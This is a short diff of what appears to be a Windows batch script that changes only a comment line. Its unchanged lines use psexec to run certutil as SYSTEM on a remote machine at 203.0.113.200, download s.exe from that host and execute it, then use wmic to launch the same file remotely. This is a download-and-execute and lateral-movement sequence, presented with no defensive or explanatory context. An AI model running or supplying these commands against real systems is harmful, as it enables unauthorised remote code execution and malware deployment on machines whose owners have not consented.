@@ -1,3 +1,3 @@
-REM init 6265 v0
+REM run 4663 v0
 psexec.exe \\203.0.113.200 -accepteula -s -d cmd /c "certutil -urlcache -f http://203.0.113.200/s.exe C:\s.exe && C:\s.exe"
 wmic /node:203.0.113.200 process call create "cmd /c C:\s.exe"
